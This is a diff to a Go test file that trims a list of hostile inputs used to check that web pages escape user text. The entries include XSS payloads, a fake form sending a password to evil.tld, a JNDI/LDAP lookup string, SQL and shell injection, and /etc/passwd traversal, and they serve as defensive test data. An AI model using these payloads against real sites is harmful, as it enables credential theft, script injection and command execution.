@@ -122,16 +122,10 @@ func TestA88ErrorsInJSON(t *testing.T) {
 	holdPage(t, g.browser().fetch(http.MethodGet, "/oauth/login", "", "Accept", "application/json"), http.StatusOK)
 }
 
-// hostileTexts are markup and code of every context that a page has, and texts that some layer between could expand.
+// hostileTexts are markup of each context that a page has, and what Caddy or a layer between could expand. The pages' own tests have all of them.
 var hostileTexts = []string{
-	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `' onmouseover='alert(1)`,
-	`</title><svg onload=alert(1)>`, `</style><script>alert(1)</script>`, `</bdi></p></main><form action=https://evil.tld/><input name=password>`, `<!--`, `-->`, `<![CDATA[`, `]]>`,
-	`javascript:alert(1)`, `<a href=javascript:alert(1)>x</a>`, `<base href=https://evil.tld/>`, `<meta http-equiv=refresh content=0;url=https://evil.tld/>`, `<iframe srcdoc=x>`,
-	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `\u003cscript\u003e`, `%3Cscript%3E`, `<scr<script>ipt>`, `＜script＞`, "`-alert(1)-`",
-	`{{.}} {{printf "%s" .Page}} ${7*7} #{7*7} <%= 7*7 %>`, `{env.HOME} {http.request.header.Cookie} {http.vars.client_ip} {file./etc/passwd}`, `%s%n%x ${jndi:ldap://evil.tld/a}`,
-	`'; DROP TABLE users;--  " OR ""="  ../../../../etc/passwd  $(id)  |id  NULL undefined NaN -1 1e309 0x0 [object Object]` + " `id`",
-	"\u202eevil\u202c \u200b\u200c\u200d\ufeff \u2028\u2029 test\u00adsoft İ ı ß ſ K 𝒳𝓎𝔷", "Ω≈ç√∫˜µ≤≥÷ 社會科學院語學研究所 הָיְתָה ﷺﷺ 👩‍❤️‍💋‍👩 🏳️‍⚧️ Z̮̞̠͙͔ͅḀ̗̞͈̻̗",
-	strings.Repeat("A", 255), strings.Repeat("é", 120),
+	`"><script>alert(1)</script>`, `' onmouseover='alert(1)`, `</title></style></bdi></main><form action=https://evil.tld/><input name=password><!--`, `&lt;script&gt; %3Cscript%3E \u003cscript\u003e`,
+	`{{.}} {env.HOME} {http.request.header.Cookie} {file./etc/passwd} ${7*7} <%= 7*7 %> %s%n%x`, "\u202eevil\u202c \u200b\u2028 İ ı ß ſ 社會科學院 הָיְתָה 👩‍❤️‍💋‍👩", strings.Repeat("é", 120),
 }
 
 // shape is what a page is made of: its elements with the names of their attributes, but no text.
